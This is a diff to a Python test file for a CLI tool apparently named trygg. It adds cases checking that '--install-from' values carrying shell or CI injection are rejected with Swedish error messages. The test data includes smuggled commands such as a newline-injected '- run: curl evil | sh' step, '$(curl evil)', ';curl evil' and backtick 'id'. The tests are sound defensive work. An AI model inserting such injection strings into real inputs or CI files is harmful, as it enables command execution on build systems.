@@ -167,6 +167,24 @@ def test_a_chosen_source(value: str, arguments: str) -> None:
             f"Wheel-filen dist/{WHEEL} finns inte; bygg den med 'python -m pip wheel --no-deps "
             "-w dist .' i en klon av trygg.",
         ),
+        # Issue 12: the source is written into the CI files; a line break made a step of its
+        # own ('- run: curl … | sh'), a quote or a shell character a command of the shell.
+        (
+            "git+https://x.example/a.git\n      - run: curl evil | sh",
+            "'git+https://x.example/a.git␊      - run: curl evil | sh' har tecknet '␊', som inte "
+            "får stå i en källa för pip; skriv adressen med %-kodning där den behöver ett sådant "
+            "tecken (%20 för mellanslag, %26 för &).",
+        ),
+        (
+            'https://x.example/simple"\n  - run: curl evil',
+            "'https://x.example/simple\"␊  - run: curl evil' har tecknet '\"'",
+        ),
+        ("https://x.example/simple$(curl evil)", "simple$(curl evil)' har tecknet '$'"),
+        ("https://x.example/simple;curl evil", "simple;curl evil' har tecknet ';'"),
+        ("https://x.example/simple`id`", "simple`id`' har tecknet '`'"),
+        ("https://x.example/simple&&id", "simple&&id' har tecknet '&'"),
+        ("https://x.example/a b/simple", "a b/simple' har tecknet ' '"),
+        ("dist/trygghet_cli-1$(id)-py3-none-any.whl", "-py3-none-any.whl' har tecknet '$'"),
     ],
 )
 def test_a_source_pip_cannot_use_is_a_usage_error(
@@ -176,7 +194,8 @@ def test_a_source_pip_cannot_use_is_a_usage_error(
         chosen(value, __version__)
     result = run("init", "plan", *ARGS, "--install-from", value, cwd=tmp_path)
     assert result.exit_code == 2, result.output
-    assert f"Fel: Ogiltigt värde för '--install-from': {message}" in result.output
+    said = result.output.split("Fel: Ogiltigt värde för '--install-from': ", 1)[1]
+    assert message in said, result.output
     assert not (tmp_path / "plan").exists()
 
 
